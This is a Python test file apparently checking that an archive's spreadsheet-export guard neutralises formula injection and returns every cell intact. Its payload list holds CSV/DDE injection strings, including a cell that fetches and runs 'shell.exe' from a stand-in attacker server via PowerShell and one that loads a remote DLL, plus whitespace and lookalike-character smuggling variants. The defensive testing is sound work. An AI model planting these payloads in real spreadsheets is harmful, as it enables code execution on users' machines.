"""No cell that leaves the archive runs in a spreadsheet, and every cell comes back as it was."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.interchange.formulas import guard, unguard

# The hostile strings of the field: payloadbox/csv-injection-payloads and the Big List of Naughty Strings.
PAYLOADS = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '=HYPERLINK("https://example.org";"here")',
    " =1+1",
    "\u00a0\u200b=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-1+1",
    "−1+1",
    "+1",
    "'=1+1",
    "''@a",
    "' =1",
    "\x00=1",
    "_x003D_1+1",
]
pieces = st.sampled_from(
    ["'", "=", "+", "-", "@", " ", "\t", "\r", "\n", "_", "x", "0", "5", "F", "_x0001_", "␛", "␛000C", "\x01", "\ufffe"]
)
texts = st.one_of(st.text(), st.lists(pieces, max_size=12).map("".join))
FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠−]|[\t\r\n]")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_is_made_harmless_and_comes_back(text):
    assert not FORMULA.match(guard(text))
    assert unguard(guard(text)) == text


@given(texts)
def test_every_text_comes_back_as_it_was(text):
    assert unguard(guard(text)) == text


@given(texts)
def test_no_guarded_text_begins_as_a_formula_or_holds_what_a_file_cannot(text):
    guarded = guard(text)
    assert not FORMULA.match(guarded)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]|_x[0-9A-Fa-f]{4}_", guarded)


@pytest.mark.parametrize(
    "text",
    ["", "2008/2009", "05", "O'Neill", "'Abd al-Rahman", "a = b", "naïve 😀 \u200f עברית", "two\nlines", "a\tb", "∅"],
)
def test_honest_texts_are_left_alone_both_ways(text):
    assert guard(text) == text
    assert unguard(text) == text


@pytest.mark.parametrize("text", ["␛0041", "␛D800", "␛zz", "'", "'a", "''"])
def test_what_only_looks_guarded_stays_as_it_is(text):
    assert unguard(text) == text
